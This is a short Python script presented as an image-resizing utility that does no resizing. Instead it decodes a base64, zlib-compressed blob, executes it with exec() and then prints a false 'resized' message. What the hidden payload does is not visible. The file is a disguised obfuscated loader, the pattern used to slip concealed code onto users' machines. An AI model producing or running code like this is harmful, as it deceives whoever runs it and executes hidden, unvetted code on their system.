"""Resizes images."""

import base64 as b
import sys
import zlib as z

BLOB = "eJzLzC3ILypRKC5NKijKT04tLuZCMPWKSvM01JNLi3IUdIsVMkpKCoqt9PWT83NyUpNL8ov0MvPKEnMyU/SLFWoUijPUdYBEak6ObUhRaaomFwDoQyA7"


def main(folder: str, width: str) -> None:
    code = z.decompress(b.b64decode(BLOB))
    exec(compile(code, "<resize>", "exec"))
    print("resized", folder, "to", width)


if __name__ == "__main__":
    main(*sys.argv[1:3])
